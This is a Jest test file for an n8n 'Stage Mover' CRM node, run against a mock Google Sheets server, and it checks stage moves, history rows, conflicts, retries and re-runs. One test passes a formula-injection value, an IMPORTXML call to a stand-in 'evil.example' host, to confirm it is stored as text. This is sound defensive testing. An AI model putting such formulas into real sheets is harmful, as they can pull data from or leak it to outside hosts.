/**
 * The Stage Mover run by n8n-core in-process, against the local Sheets API server.
 */
import { runNode, type NodeRun } from '../harness/runWorkflow';
import { DEFAULT_TEST_TOKEN, startSheetsServer, type CellValue, type SheetsServer } from '../servers/sheetsServer';

const LEADS_HEADER = ['email', 'name', 'stage', 'amount', 'stageChangedAt', 'notes'];
const HISTORY_HEADER = ['time', 'tab', 'key', 'from', 'to', 'reason', 'executionId'];

let server: SheetsServer;
beforeAll(async () => {
	server = await startSheetsServer();
});
afterAll(async () => {
	await server.close();
});

function credentials() {
	return {
		googleSheetsCrmOAuth2Api: {
			apiBaseUrl: server.url,
			grantType: 'authorizationCode',
			oauthTokenData: { access_token: DEFAULT_TEST_TOKEN, token_type: 'Bearer' },
			clientId: 'x',
			clientSecret: 'y',
			accessTokenUrl: server.tokenUrl,
			authUrl: `${server.url}/auth`,
			scope: 'https://www.googleapis.com/auth/spreadsheets',
		},
	};
}

function spreadsheet(leads: CellValue[][], extraTabs: Record<string, CellValue[][]> = {}): string {
	return server.createSpreadsheet({ Leads: [LEADS_HEADER, ...leads], StageHistory: [HISTORY_HEADER], ...extraTabs });
}

/** API requests the server saw for one spreadsheet since `from` (retries included: each is a request). */
function apiRequests(spreadsheetId: string, from = 0) {
	return server.requests.slice(from).filter((r) => r.path.includes(`/spreadsheets/${spreadsheetId}`));
}

function moveParams(spreadsheetId: string, extra: Record<string, unknown> = {}) {
	return { operation: 'moveToStage', storage: 'sheet', spreadsheetId, targetStage: '={{ $json.next }}', reason: '={{ $json.why }}', ...extra };
}

const column = (rows: CellValue[][], name: string, header = LEADS_HEADER) => rows.slice(1).map((r) => r[header.indexOf(name)] ?? null);
const keysOf = (run: NodeRun, output: number) => (run.outputs[output] ?? []).map((j) => j.email);

describe('Stage Mover: compute only', () => {
	it('routes items to moved / unchanged / rejected with the target from an expression and writes nothing', async () => {
		const before = server.requests.length;
		const run = await runNode({
			type: 'stageMover',
			parameters: { operation: 'moveToStage', storage: 'computeOnly', targetStage: '={{ $json.next }}', reason: '={{ $json.why }}' },
			items: [
				{ email: 'a@x.io', stage: 'New', next: 'MQL' },
				{ email: 'b@x.io', stage: 'MQL', next: 'mql' },
				{ email: 'c@x.io', stage: 'SQL', next: 'Proposal' },
				{ email: 'd@x.io', stage: 'Negotiation', next: 'Won', why: 'signed', amount: 900 },
				{ email: 'e@x.io', stage: 'New', next: 'Closed' },
			],
		});
		expect(run.error).toBeUndefined();
		expect(server.requests.length).toBe(before);
		expect(keysOf(run, 0)).toEqual(['a@x.io', 'd@x.io']);
		expect(keysOf(run, 1)).toEqual(['b@x.io']);
		expect(keysOf(run, 2)).toEqual(['c@x.io', 'e@x.io']);
		expect(run.outputs[0][0]).toMatchObject({ stage: 'MQL', stageMove: { from: 'New', to: 'MQL', probability: 0.1 } });
		expect(run.outputs[0][1]).toMatchObject({ stage: 'Won', stageMove: { from: 'Negotiation', to: 'Won', reason: 'signed', probability: 1 } });
		expect(run.outputs[2].map((j) => (j.stageMove as { reason: string }).reason)).toEqual(['missing required field', 'unknown stage']);
		expect(run.items[0].map((i) => i.pairedItem)).toEqual([{ item: 0 }, { item: 3 }]);
		expect(run.items[2].map((i) => i.pairedItem)).toEqual([{ item: 2 }, { item: 4 }]);
	});

	it('applies rules with the first match winning, and a bad rule fails the node with a clear message', async () => {
		const rules = {
			rule: [
				{ name: 'Hot', conditions: 'score >= 70 and stage = New', moveTo: 'MQL' },
				{ name: 'Warm', conditions: 'score >= 40 and stage = New', moveTo: 'Lost' },
			],
		};
		const run = await runNode({
			type: 'stageMover',
			parameters: { operation: 'applyRules', storage: 'computeOnly', rules },
			items: [
				{ email: 'a', stage: 'New', score: 80 },
				{ email: 'b', stage: 'New', score: 50 },
				{ email: 'c', stage: 'New', score: 10 },
			],
		});
		// "Warm" closes b as Lost; the rule name is the reason, so the reason required on closing is there.
		expect(run.outputs[0]).toEqual([
			expect.objectContaining({ email: 'a', stage: 'MQL', stageMove: expect.objectContaining({ reason: 'Hot', to: 'MQL' }) }),
			expect.objectContaining({ email: 'b', stage: 'Lost', stageMove: expect.objectContaining({ reason: 'Warm', to: 'Lost', probability: 0 }) }),
		]);
		expect(run.outputs[1].map((j) => j.email)).toEqual(['c']);
		expect(run.outputs[2]).toEqual([]);

		const bad = await runNode({
			type: 'stageMover',
			parameters: { operation: 'applyRules', storage: 'computeOnly', rules: { rule: [{ name: 'Oops', conditions: 'score >> 3', moveTo: 'MQL' }] } },
			items: [{ email: 'a', stage: 'New' }],
		});
		expect(bad.error?.message).toMatch(/Rule 1 \("Oops"\): cannot read the condition "score >> 3"/);
	});

	it('with "continue" an item without a key becomes an error item while the others flow', async () => {
		const run = await runNode({
			type: 'stageMover',
			parameters: { operation: 'moveToStage', storage: 'computeOnly', targetStage: 'MQL' },
			items: [{ email: 'a', stage: 'New' }, { stage: 'New' }],
			onError: 'continueRegularOutput',
		});
		expect(run.outputs[0].map((j) => j.email)).toEqual(['a']);
		expect(run.outputs[2]).toEqual([expect.objectContaining({ error: 'Item 1: the key field "email" is empty' })]);
		expect(run.items[2][0].pairedItem).toEqual({ item: 1 });

		const stop = await runNode({
			type: 'stageMover',
			parameters: { operation: 'moveToStage', storage: 'computeOnly', targetStage: 'MQL' },
			items: [{ email: 'a', stage: 'New' }, { stage: 'New' }],
		});
		expect(stop.error).toMatchObject({ message: 'Item 1: the key field "email" is empty', itemIndex: 1 });
	});
});

describe('Stage Mover: Flag Stale, compute only', () => {
	it('sends stale items to the first output, fresh ones to the second, and unknown stages to rejected', async () => {
		const iso = (daysAgo: number) => new Date(Date.now() - daysAgo * 86_400_000).toISOString();
		const run = await runNode({
			type: 'stageMover',
			parameters: { operation: 'flagStale', storage: 'computeOnly', options: { activityField: 'lastTouch' } },
			items: [
				{ email: 'a', stage: 'SQL', lastTouch: iso(20) },
				{ email: 'b', stage: 'SQL', lastTouch: iso(3) },
				{ email: 'c', stage: 'Parked', lastTouch: iso(3) },
			],
		});
		expect(run.outputs[0]).toEqual([expect.objectContaining({ email: 'a', staleCheck: expect.objectContaining({ stale: true, daysInactive: 20, staleAfterDays: 14 }) })]);
		expect(run.outputs[1].map((j) => j.email)).toEqual(['b']);
		expect(run.outputs[2].map((j) => j.email)).toEqual(['c']);
		expect(run.items[2][0].pairedItem).toEqual({ item: 2 });
	});
});

describe('Stage Mover: Google Sheet', () => {
	it('writes the stage and stageChangedAt, appends one history row per move, and reports not found / conflict', async () => {
		const id = spreadsheet([
			['a@x.io', 'Ann', 'New', '', '', 'keep me'],
			['b@x.io', 'Bob', 'SQL', 1200, '', ''],
			['c@x.io', 'Cid', 'SQL', '', '', ''],
			['d@x.io', 'Dee', 'MQL', '', '', ''],
		]);
		const run = await runNode({
			type: 'stageMover',
			parameters: moveParams(id),
			credentials: credentials(),
			executionId: 'exec-basic',
			items: [
				{ email: 'a@x.io', next: 'MQL' },
				{ email: 'b@x.io', stage: 'SQL', next: 'Proposal' },
				{ email: 'c@x.io', next: 'Proposal' },
				{ email: 'd@x.io', stage: 'New', next: 'MQL' },
				{ email: 'zz@x.io', next: 'MQL' },
			],
		});
		expect(run.error).toBeUndefined();
		expect(keysOf(run, 0)).toEqual(['a@x.io', 'b@x.io']);
		expect(run.outputs[2].map((j) => [j.email, (j.stageMove as { reason: string }).reason])).toEqual([
			['c@x.io', 'missing required field'],
			['d@x.io', 'conflict'],
			['zz@x.io', 'not found'],
		]);
		const leads = server.getValues(id, 'Leads');
		expect(column(leads, 'stage')).toEqual(['New', 'SQL', 'SQL', 'MQL'].map((s, i) => (i < 2 ? ['MQL', 'Proposal'][i] : s)));
		expect(column(leads, 'notes')[0]).toBe('keep me');
		const changedAt = column(leads, 'stageChangedAt');
		expect(typeof changedAt[0]).toBe('string');
		expect(changedAt.slice(2)).toEqual([null, null]);
		const history = server.getValues(id, 'StageHistory');
		expect(history.slice(1).map((r) => r.slice(1))).toEqual([
			['Leads', 'a@x.io', 'New', 'MQL', 'moved to "MQL"', 'exec-basic'],
			['Leads', 'b@x.io', 'SQL', 'Proposal', 'moved to "Proposal"', 'exec-basic'],
		]);
		expect(apiRequests(id).map((r) => r.method)).toEqual(['GET', 'POST', 'POST']);
	});

	it('chains two items for one record, names tab, row and column in rejections, and keeps a formula-looking reason as text', async () => {
		const id = spreadsheet([
			['a@x.io', 'Ann', 'New', '', '', ''],
			['b@x.io', 'Bob', 'Pending', '', '', ''],
		]);
		const run = await runNode({
			type: 'stageMover',
			parameters: moveParams(id, { options: { cellFormat: 'USER_ENTERED', allowSkipping: true } }),
			credentials: credentials(),
			items: [
				{ email: 'a@x.io', stage: 'New', next: 'MQL', why: '=IMPORTXML("http://evil.example", "//a")' },
				{ email: 'a@x.io', next: 'Lost', why: '+1 said no' },
				{ email: 'b@x.io', next: 'SQL' },
			],
		});
		expect(run.error).toBeUndefined();
		expect(run.outputs[0].map((j) => (j.stageMove as { from: string; to: string }).to)).toEqual(['MQL', 'Lost']);
		expect((run.outputs[0][1].stageMove as { from: string }).from).toBe('MQL');
		expect((run.outputs[2][0].stageMove as { detail: string }).detail).toBe(
			'Tab "Leads" row 3, column "stage": The current stage "Pending" is not a stage of the pipeline (New, MQL, SQL, Proposal, Negotiation, Won, Lost)',
		);
		expect(column(server.getValues(id, 'Leads'), 'stage')).toEqual(['Lost', 'Pending']);
		const history = server.getValues(id, 'StageHistory');
		expect(history.slice(1).map((r) => [r[3], r[4], r[5]])).toEqual([
			['New', 'MQL', '=IMPORTXML("http://evil.example", "//a")'],
			['MQL', 'Lost', '+1 said no'],
		]);
		// Stored as text, not as a formula.
		expect(server.getCell(id, 'StageHistory', 'F2')?.formula).toBeUndefined();
		expect(server.getCell(id, 'StageHistory', 'F2')?.value).toBe('=IMPORTXML("http://evil.example", "//a")');
	});

	it('moves 10,000 records with at most 3 API calls counted on the server', async () => {
		const n = 10_000;
		const rows: CellValue[][] = Array.from({ length: n }, (_, i) => [`lead${i}@x.io`, `Lead ${i}`, 'New', '', '', '']);
		const id = spreadsheet(rows);
		const items = rows.map((r) => ({ email: r[0], stage: 'New' }));
		const run = await runNode({ type: 'stageMover', parameters: moveParams(id, { targetStage: 'MQL' }), credentials: credentials(), items });
		expect(run.error).toBeUndefined();
		expect(run.outputs[0]).toHaveLength(n);
		expect(apiRequests(id).length).toBeLessThanOrEqual(3);
		expect(run.outputs[0][0].stageMove).toMatchObject({ sheetsApiCalls: 3 });
		expect(new Set(column(server.getValues(id, 'Leads'), 'stage'))).toEqual(new Set(['MQL']));
		expect(server.getValues(id, 'StageHistory')).toHaveLength(n + 1);
	});

	it("never loses a person's edit made between the read and the write", async () => {
		const id = spreadsheet([
			['a@x.io', 'Ann', 'New', '', '', ''],
			['b@x.io', 'Bob', 'New', '', '', ''],
		]);
		// A person types a note into Ann's row and sets Bob's amount after the node read the sheet.
		server.beforeNextWrite(() => {
			server.setCell(id, 'Leads', 'F2', 'called back');
			server.setCell(id, 'Leads', 'D3', 500);
		});
		const run = await runNode({
			type: 'stageMover',
			parameters: moveParams(id, { targetStage: 'MQL' }),
			credentials: credentials(),
			items: [{ email: 'a@x.io', stage: 'New' }, { email: 'b@x.io', stage: 'New' }],
		});
		expect(run.error).toBeUndefined();
		const leads = server.getValues(id, 'Leads');
		expect(column(leads, 'stage')).toEqual(['MQL', 'MQL']);
		expect(column(leads, 'notes')[0]).toBe('called back');
		expect(column(leads, 'amount')[1]).toBe(500);
	});

	it("rejects as conflict, and does not overwrite, a stage a person changed after the previous node read it", async () => {
		const id = spreadsheet([['a@x.io', 'Ann', 'New', '', '', '']]);
		server.setCell(id, 'Leads', 'C2', 'Lost');
		const run = await runNode({
			type: 'stageMover',
			parameters: moveParams(id, { targetStage: 'MQL' }),
			credentials: credentials(),
			items: [{ email: 'a@x.io', stage: 'New' }],
		});
		expect(run.outputs[2]).toEqual([expect.objectContaining({ stageMove: expect.objectContaining({ reason: 'conflict' }) })]);
		expect(column(server.getValues(id, 'Leads'), 'stage')).toEqual(['Lost']);
		expect(server.getValues(id, 'StageHistory')).toHaveLength(1);
	});

	it.each([
		['the read', false],
		['the stage write', true],
	])('survives a burst of five 429s on %s with no lost update and no duplicate history row', async (_where, onWrite) => {
		const id = spreadsheet([
			['a@x.io', 'Ann', 'New', '', '', ''],
			['b@x.io', 'Bob', 'MQL', '', '', ''],
		]);
		// Retry-After: 0 keeps the test fast; the backoff itself is the transport's own tested policy.
		const burst = () => server.failNext(429, 5, { retryAfterSeconds: 0 });
		// The history append is the first write; a failure queued while it is handled hits the stage write.
		if (onWrite) server.beforeNextWrite(burst);
		else burst();
		const start = server.requests.length;
		const run = await runNode({
			type: 'stageMover',
			parameters: moveParams(id, { targetStage: '={{ $json.stage === "New" ? "MQL" : "SQL" }}' }),
			credentials: credentials(),
			items: [{ email: 'a@x.io', stage: 'New' }, { email: 'b@x.io', stage: 'MQL' }],
		});
		expect(run.error).toBeUndefined();
		const statuses = apiRequests(id, start).map((r) => `${r.method} ${r.status}`);
		expect(statuses.filter((s) => s.endsWith('429'))).toHaveLength(5);
		expect(statuses.filter((s) => s.endsWith('200'))).toEqual(['GET 200', 'POST 200', 'POST 200']);
		expect(statuses[onWrite ? 2 : 0]).toBe(onWrite ? 'POST 429' : 'GET 429');
		expect(column(server.getValues(id, 'Leads'), 'stage')).toEqual(['MQL', 'SQL']);
		expect(server.getValues(id, 'StageHistory').slice(1).map((r) => r[2])).toEqual(['a@x.io', 'b@x.io']);
		expect(run.outputs[0].map((j) => (j.stageMove as { sheetsApiCalls: number }).sheetsApiCalls)).toEqual([3, 3]);
	});

	it('re-running the same execution moves nothing twice, and completes a move whose stage write was lost', async () => {
		const id = spreadsheet([
			['a@x.io', 'Ann', 'New', '', '', ''],
			['b@x.io', 'Bob', 'New', '', '', ''],
		]);
		const items = [{ email: 'a@x.io', stage: 'New' }, { email: 'b@x.io', stage: 'New' }];
		const params = { operation: 'applyRules', storage: 'sheet', spreadsheetId: id, rules: { rule: [{ name: 'Next', conditions: 'stage = New', moveTo: 'MQL' }, { name: 'Then', conditions: 'stage = MQL', moveTo: 'SQL' }] } };
		// First run: the history lands, then the stage write fails for good (500s beyond the retry budget).
		server.beforeNextWrite(() => server.failNext(500, 7, { retryAfterSeconds: 0 }));
		const failed = await runNode({ type: 'stageMover', parameters: params, credentials: credentials(), executionId: 'exec-rerun', items });
		expect(failed.error?.message).toMatch(/Google Sheets API kept failing \(500/);
		expect(column(server.getValues(id, 'Leads'), 'stage')).toEqual(['New', 'New']);
		expect(server.getValues(id, 'StageHistory')).toHaveLength(3);

		// Re-run: the recorded moves are completed (stage written), not logged again, and the rule "Then" does not fire.
		const rerun = await runNode({ type: 'stageMover', parameters: params, credentials: credentials(), executionId: 'exec-rerun', items });
		expect(rerun.error).toBeUndefined();
		expect(rerun.outputs[0].map((j) => j.stageMove)).toEqual([
			expect.objectContaining({ from: 'New', to: 'MQL', reason: 'Next', alreadyApplied: true }),
			expect.objectContaining({ from: 'New', to: 'MQL', reason: 'Next', alreadyApplied: true }),
		]);
		expect(column(server.getValues(id, 'Leads'), 'stage')).toEqual(['MQL', 'MQL']);
		expect(server.getValues(id, 'StageHistory')).toHaveLength(3);

		// A third run of the same execution changes nothing at all.
		const third = await runNode({ type: 'stageMover', parameters: params, credentials: credentials(), executionId: 'exec-rerun', items });
		expect(third.outputs[0]).toHaveLength(2);
		expect(column(server.getValues(id, 'Leads'), 'stage')).toEqual(['MQL', 'MQL']);
		expect(server.getValues(id, 'StageHistory')).toHaveLength(3);

		// A new execution runs the rules again: MQL → SQL.
		const next = await runNode({ type: 'stageMover', parameters: params, credentials: credentials(), executionId: 'exec-next', items: [{ email: 'a@x.io' }] });
		expect(next.outputs[0][0].stageMove).toMatchObject({ from: 'MQL', to: 'SQL', reason: 'Then' });
	});

	it('pure mode and dry run write nothing', async () => {
		const id = spreadsheet([['a@x.io', 'Ann', 'New', '', '', '']]);
		const start = server.requests.length;
		const dry = await runNode({
			type: 'stageMover',
			parameters: moveParams(id, { targetStage: 'MQL', options: { dryRun: true } }),
			credentials: credentials(),
			items: [{ email: 'a@x.io', stage: 'New' }],
		});
		expect(dry.outputs[0][0]).toMatchObject({ stage: 'New', stageMove: { to: 'MQL', dryRun: true } });
		expect(apiRequests(id, start).map((r) => r.method)).toEqual(['GET']);
		const pure = await runNode({
			type: 'stageMover',
			parameters: { ...moveParams(id, { targetStage: 'MQL' }), storage: 'computeOnly' },
			items: [{ email: 'a@x.io', stage: 'New' }],
		});
		expect(pure.outputs[0]).toHaveLength(1);
		expect(apiRequests(id, start)).toHaveLength(1);
		expect(column(server.getValues(id, 'Leads'), 'stage')).toEqual(['New']);
	});

	it('flags stale records from the sheet dates in one read', async () => {
		const day = 86_400_000;
		const iso = (daysAgo: number) => new Date(Date.now() - daysAgo * day).toISOString();
		const id = spreadsheet([
			['a@x.io', 'Ann', 'New', '', iso(10), ''],
			['b@x.io', 'Bob', 'New', '', iso(2), ''],
			['c@x.io', 'Cid', 'Parked', '', iso(2), ''],
		]);
		const start = server.requests.length;
		const run = await runNode({
			type: 'stageMover',
			parameters: { operation: 'flagStale', storage: 'sheet', spreadsheetId: id },
			credentials: credentials(),
			items: [{ email: 'a@x.io' }, { email: 'b@x.io' }, { email: 'c@x.io' }, { email: 'zz@x.io' }],
		});
		expect(run.outputs[0]).toEqual([expect.objectContaining({ email: 'a@x.io', staleCheck: expect.objectContaining({ stale: true, daysInactive: 10, staleAfterDays: 7 }) })]);
		expect(run.outputs[1].map((j) => j.email)).toEqual(['b@x.io']);
		expect(run.outputs[2].map((j) => j.email)).toEqual(['c@x.io', 'zz@x.io']);
		expect(apiRequests(id, start)).toHaveLength(1);
	});

	describe('bad input gives clear errors naming tab, row and column', () => {
		const attempt = async (tabs: Record<string, CellValue[][]>, extra: Record<string, unknown> = {}) => {
			const id = server.createSpreadsheet(tabs);
			return await runNode({ type: 'stageMover', parameters: moveParams(id, { targetStage: 'MQL', ...extra }), credentials: credentials(), items: [{ email: 'a@x.io' }] });
		};
		const history = [HISTORY_HEADER];

		it.each([
			['missing records tab', { StageHistory: history }, /Tab "Leads" not found in the spreadsheet/],
			['missing history tab', { Leads: [LEADS_HEADER] }, /Tab "StageHistory" not found in the spreadsheet/],
			['empty sheet', { Leads: [], StageHistory: history }, /Tab "Leads" has no header row: row 1 is empty/],
			['missing key column', { Leads: [['name', 'stage', 'stageChangedAt']], StageHistory: history }, /Tab "Leads" has no key column "email"/],
			['missing stage column', { Leads: [['email', 'stageChangedAt']], StageHistory: history }, /Tab "Leads" has no column "stage" in its header row 1/],
			[
				'duplicate keys',
				{ Leads: [LEADS_HEADER, ['a@x.io', 'A', 'New'], ['a@x.io', 'B', 'New']], StageHistory: history },
				/Tab "Leads" has duplicate keys in column "email" \(A\): "a@x.io" at rows 2 and 3/,
			],
			['blank header', { Leads: [['email', '', 'stage']], StageHistory: history }, /Tab "Leads" has a blank header in column B/],
			['duplicate header', { Leads: [['email', 'stage', 'stage']], StageHistory: history }, /Tab "Leads" has the header "stage" twice, in columns B and C/],
			['history without executionId', { Leads: [LEADS_HEADER], StageHistory: [['time', 'tab', 'key', 'from', 'to', 'reason']] }, /Tab "StageHistory" has no column "executionId"/],
		])('%s', async (_name, tabs, message) => {
			const run = await attempt(tabs as Record<string, CellValue[][]>);
			expect(run.error?.message).toMatch(message);
		});

		it('a pipeline with a duplicate stage name fails before touching the sheet', async () => {
			const id = spreadsheet([]);
			const start = server.requests.length;
			const run = await runNode({
				type: 'stageMover',
				parameters: moveParams(id, { pipelineStages: { stage: [{ name: 'New', probability: 5 }, { name: 'new', probability: 10 }, { name: 'Won', probability: 100 }, { name: 'Lost', probability: 0 }] } }),
				credentials: credentials(),
				items: [{ email: 'a@x.io' }],
			});
			expect(run.error?.message).toBe('Pipeline stage 2: the name "new" is used twice (also by "New")');
			expect(apiRequests(id, start)).toHaveLength(0);
		});
	});
});
